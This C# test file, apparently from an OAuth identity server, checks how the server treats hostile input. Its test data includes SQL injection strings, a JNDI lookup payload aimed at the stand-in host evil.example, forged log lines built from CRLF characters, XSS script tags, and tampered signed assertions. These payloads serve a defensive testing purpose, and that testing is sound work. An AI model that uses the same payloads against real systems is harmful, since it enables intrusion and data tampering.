using System.Net;
using Interop.Identity.Clients;
using Interop.Identity.Database;
using Interop.Identity.Tests.People;
using Microsoft.IdentityModel.Tokens;

namespace Interop.Identity.Tests.Attacks;

/// <summary>Texts that a database, a log or a page could take for something else.</summary>
public abstract class HostileTextTests(DatabaseKind database) : BrowserTests(database)
{
    [Theory]
    [InlineData("\0")]
    [InlineData("a\0b")]
    [InlineData("\ud800")]
    [InlineData("' OR 1=1 --")]
    [InlineData("'; DROP TABLE client; --")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    public async Task Text_that_a_database_or_log_could_choke_on_is_refused_like_any_other(string text)
    {
        var backend = await Registered.BackendAsync(issuer);
        var flow = new CodeFlow(app);
        Answer[] answers =
        [
            await flow.RedeemAsync(text),
            await flow.RedeemAsync("x", changed: ("client_id", text)),
            await flow.RedeemAsync(await flow.CodeAsync(person, browser), changed: ("code_verifier", text)),
            await CodeFlow.RefreshAsync(app, text),
            await backend.TokenAsync(changed: ("scope", text)),
            await backend.TokenAsync(changed: ("purpose_of_use", text)),
            await backend.TokenAsync(changed: ("client_assertion", text)),
            await backend.TokenAsync(changed: ("client_assertion", backend.Assertion(new() { ["sub"] = text, ["iss"] = text }))),
            await backend.TokenAsync(changed: ("client_assertion", backend.Assertion(new() { ["aud"] = text }))),
            await issuer.PostAsync("/introspect", [("client_id", text), ("token", text)]),
            await issuer.PostAsync("/revoke", [("client_id", text), ("token", text)]),
        ];

        Assert.All(answers, answer => Assert.InRange((int)answer.Status, 400, 499));
        var isForm = !text.Contains('\0', StringComparison.Ordinal); // NUL is no part of a form to ASP.NET
        Assert.Equal(
            isForm ? HttpStatusCode.OK : HttpStatusCode.BadRequest, // OK is "unknown"
            (await app.PostAsync(issuer, "/revoke", new() { ["token"] = text })).Status);
        Assert.Equal(
            HttpStatusCode.OK,
            (await backend.TokenAsync(changed: ("client_assertion", backend.Assertion(new() { ["jti"] = text })))).Status);
        var again = await backend.TokenAsync(changed: ("client_assertion", backend.Assertion(new() { ["jti"] = text })));
        Assert.Equal("The assertion was used before.", again["error_description"]);

        await using var other = Browser.At(issuer);
        await other.OpenAsync("/sign-in");
        await other.SubmitAsync(("UserName", text), ("Password", text + "-and-more-of-it"));
        Assert.StartsWith(isForm ? "Name and password do not match" : string.Empty, other.Alert, StringComparison.Ordinal);
        Assert.Equal(isForm ? HttpStatusCode.OK : HttpStatusCode.BadRequest, other.Last.StatusCode);
        await other.OpenAsync(new CodeFlow(app).Link(("nonce", text), ("client_id", text)));
        Assert.Equal(HttpStatusCode.BadRequest, other.Last.StatusCode);
    }

    [Theory]
    [InlineData("jti")]
    [InlineData("sub")]
    [InlineData("aud")]
    public async Task Half_a_character_in_an_assertion_is_refused(string claim)
    {
        var backend = await Registered.BackendAsync(issuer);
        var parts = backend.Assertion(new() { [claim] = "half" }).Split('.');
        var payload = Base64UrlEncoder.Decode(parts[1]).Replace("\"half\"", "\"\\ud800\"", StringComparison.Ordinal);
        var signed = parts[0] + "." + Base64UrlEncoder.Encode(payload);
        var key = ((ECDsaSecurityKey)backend.Key!.Credentials.Key).ECDsa;
        var signature = Base64UrlEncoder.Encode(
            key.SignData(System.Text.Encoding.ASCII.GetBytes(signed), System.Security.Cryptography.HashAlgorithmName.SHA384));

        var answer = await backend.TokenAsync(changed: ("client_assertion", $"{signed}.{signature}"));

        Assert.Equal((HttpStatusCode.Unauthorized, "invalid_client"), (answer.Status, answer["error"]));
    }

    [Fact]
    public async Task The_trail_holds_no_line_break_of_a_request_and_cannot_be_changed()
    {
        await issuer.PostAsync("/token", [("client_id", "evil\r\n2026-01-01 ok"), ("grant_type", "client_credentials")]);

        var row = (await issuer.TrailAsync())[^1];
        Assert.Equal("evil??2026-01-01?ok", row.Client);
        foreach (var sql in (string[])["DELETE FROM security_event", "UPDATE security_event SET outcome = 'ok'"])
        {
            await Assert.ThrowsAnyAsync<System.Data.Common.DbException>(
                () => issuer.Get<IdentityDatabase>().ExecuteAsync(sql, new { }, CancellationToken.None));
        }
    }

    [Fact]
    public async Task A_line_break_in_names_reaches_neither_the_trail_nor_the_log()
    {
        const string forged = "eve\r\nforged: all is well\u2028forged";
        using var process = await Executable.ServeAsync(issuer, "--Logging:LogLevel:Default=Debug");
        using var http = new HttpClient { BaseAddress = process.Address };
        await using var visitor = Browser.At(process.Address.GetLeftPart(UriPartial.Authority));
        await visitor.OpenAsync("/sign-in");
        await visitor.SubmitAsync(("UserName", forged), ("Password", "wrong-password-here"));
        await visitor.OpenAsync(new CodeFlow(app).Link(("client_id", forged)));
        await visitor.OpenAsync(new CodeFlow(app).Link(("redirect_uri", forged), ("state", forged)));
        foreach (var path in (string[])["/token", "/introspect", "/revoke"])
        {
            using var content = new FormUrlEncodedContent(
                new Dictionary<string, string> { ["client_id"] = forged, ["grant_type"] = forged, ["token"] = forged });
            using var answer = await http.PostAsync(path, content);
            Assert.InRange((int)answer.StatusCode, 400, 499);
        }

        await process.KillAsync();
        Assert.DoesNotContain(process.Said.Split('\n'), line => line.TrimStart().StartsWith("forged", StringComparison.Ordinal));
        var rows = await issuer.Get<IdentityDatabase>().ListAsync<string>(
            """
            SELECT kind || outcome || COALESCE(client_id, '') || COALESCE(account_id, '') || COALESCE(remote, '') || COALESCE(reason, '')
            FROM   security_event
            """,
            new { },
            CancellationToken.None);
        Assert.True(rows.Count(row => row.Contains("refused", StringComparison.Ordinal)) >= 6);
        Assert.DoesNotContain(rows, row => row.Any(letter => char.IsControl(letter) || letter == '\u2028'));
        Assert.DoesNotContain(process.Said, "wrong-password-here", StringComparison.Ordinal);
    }

    [Fact]
    public async Task Names_are_text_on_every_page()
    {
        const string script = "<script>alert(1)</script>";
        var client = (await issuer.Get<ClientStore>().FindAsync("app", CancellationToken.None))!;
        await issuer.Get<ClientStore>().AddAsync(client with { ClientId = "marked-up", Name = script }, CancellationToken.None);
        await browser.OpenAsync("/sign-in");
        await browser.SubmitAsync(("UserName", "\"><script>alert(2)</script>"), ("Password", "wrong-password-here"));
        Assert.Contains("&lt;script&gt;alert(2)", browser.Html, StringComparison.Ordinal);
        AssertNoScript();

        browser.UserAgent = "<script>alert(3)</script>";
        await person.AllowAsync(browser, "/account");
        Assert.Contains("&lt;script&gt;alert(3)", browser.Html, StringComparison.Ordinal);
        AssertNoScript();

        await browser.OpenAsync(new CodeFlow(app).Link(("client_id", "marked-up")));
        Assert.Contains("&lt;script&gt;alert(1)", browser.Html, StringComparison.Ordinal);
        Assert.Contains("Ana &lt;Lima&gt;", browser.Html, StringComparison.Ordinal);
        AssertNoScript();
        string[] paths =
            ["/authorize?client_id=<script>", "/nothing/<script>", "/consent?client_id=<script>", "/sign-in?returnUrl=<script>"];
        foreach (var path in paths)
        {
            await browser.OpenAsync(path);
            AssertNoScript();
        }

        void AssertNoScript() => Assert.DoesNotContain("<script", browser.Html, StringComparison.OrdinalIgnoreCase);
    }
}
